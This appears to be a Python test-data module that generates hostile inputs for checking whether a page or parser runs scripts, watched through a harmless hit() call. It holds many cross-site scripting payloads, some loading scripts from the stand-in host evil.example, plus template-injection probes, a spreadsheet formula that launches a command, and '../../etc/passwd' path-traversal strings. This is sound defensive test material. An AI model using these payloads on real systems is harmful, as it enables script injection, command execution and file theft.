"""Strange texts. Scripts among them call ``hit()``, which the tests watch."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

CALLS = ("hit()", "hit`1`", "top['hit']()", "&#104;it()", "\\u0068it()", "eval('hit()')", "self.hit()//")
TAGS = (
    "a abbr article audio b body button canvas custom-x datalist details dialog div embed form frameset iframe image img"
    " input isindex keygen link marquee math meta meter object p plaintext progress select source style svg table template"
    " textarea title video wbr xmp xss"
).split()
EVENTS = (
    "onload onerror onfocus onclick onmouseover onpointerover ontoggle onanimationstart ontransitionend onbegin onstart"
    " onpageshow onresize onscroll onbeforetoggle oncontentvisibilityautostatechange onpopstate onhashchange onwheel"
).split()
BREAKS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "`>",
    "-->",
    "]]>",
    "</title>",
    "</style>",
    "</script>",
    "</textarea>",
    "</svg>",
    "*/",
    '\\"',
    "</a>",
    "</noscript>",
    "\\",
    '" ',
    "' ",
    "}}",
    "%}",
    "&quot;&gt;",
    "\\x3c",
    "\\u003c/script>",
    '"}',
    "'}",
    ")",
)
SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java&#10;script:", "&#106;avascript:", "&Tab;javascript:",
    "javascript&colon;", "vbscript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg,",
    "view-source:javascript:", "feed:javascript:", "blob:", "//evil.example/", "\\\\evil.example/", "javascript://%0a",
)  # fmt: skip
WHOLE = (
    "<script>hit()</script>", "<script src=//evil.example/x.js></script>", "<script>hit()", "<<script>hit();//<</script>",
    "<scr<script>ipt>hit()</scr</script>ipt>", "<SCRIPT/SRC=data:,hit()></SCRIPT>", "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>", "<svg><use href=data:image/svg+xml,x#x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>", "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<iframe srcdoc='<script>parent.hit()</script>'>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=javascript:hit()>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example'</style>", "<img src=//evil.example/pixel>",
    "<form action=javascript:hit()><button>x", "<object data=javascript:hit()>", "<embed src=javascript:hit()>", "<x style=animation-name:x onanimationstart=hit()>",
    "{{7*7}}", "{{ ''.__class__.__mro__ }}", "{% raw %}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%(x)s", "%s%s%n", "{0}", "{site.config}",
    "\u2028hit()", "\"onload=\"hit()", "' autofocus onfocus='hit()", "x:expression(hit())", "=cmd|' /C calc'!A0", "@SUM(1)", "-1+1", "+62",
)  # fmt: skip


def scripts() -> Iterator[str]:
    """Texts that would run a script if a page took them for markup."""
    yield from WHOLE
    for number, (tag, event) in enumerate(product(TAGS, EVENTS)):
        call, start = CALLS[number % len(CALLS)], BREAKS[number % len(BREAKS)]
        form = (
            "<{0} {1}={2} src=x tabindex=1 autofocus>",
            "<{0}/{1}={2}>x</{0}>",
            "<{0} x='>' {1}=\"{2}\">",
            "<{0}\x0c{1}={2}>",
        )
        yield start + form[number % 3].format(tag, event, call)
    for scheme, call, around in product(
        SCHEMES, CALLS[:4], ("{}", "<a href='{}'>x</a>", "[x]({})", "<{}>", "[x]: {}", "![x]({})")
    ):
        yield around.format(scheme + call)
    for start, event in product(BREAKS, EVENTS[:10]):
        yield f"{start} {event}=hit() x={start}"


ODD = (
    "012", "no", "1_000", "13:00", "+6200", "0x10", "1e3", ".inf", "~", "null", "true", "=", "<<", "2024-02-30", "2024-13-01", "9999-99-99",
    "24:00", "99:99", "-0", "00", "1.0", "١", "９", "Ⅳ", "²", " ", "", "-", "?", ":", "- x", "#", "&a", "*a", "!x", "|", ">", "%", "@", "`", "'", '"',
    "[", "{", "]", "a: b", "a #b", "\t", "x" * 299, "x" * 301, "x" * 4_000, "\u00e9", "e\u0301", "ﬁ", "ẞ", "İ", "ı", "Ａ", "👨‍👩‍👧", "田中さん", "الكل",
    "../../etc/passwd", "..", ".", "/", "\\", "CON", "con.", "nul", "a/b", "a\\b", "C:\\x", "%2e%2e%2f", "file:///etc/passwd", "http://[x", "http://a℀b",
    "Z̤͔ͧ̑̓", "\ufdfd", "ＡＢＣ", "Сукараджа", "𝐒𝐮𝐤𝐚",
)  # fmt: skip
HIDDEN = tuple(map(chr, (0, 1, 7, 8, 11, 12, 0x1B, 0x7F, 0x85, 0xAD, 0x200B, 0x200E, 0x2028, 0x202E, 0x2066, 0x2060, 0xFEFF, 0xE000, 0xFFFD, 0xFFFE, 0xE0041)))  # fmt: skip
"""Characters that are refused wherever they stand."""
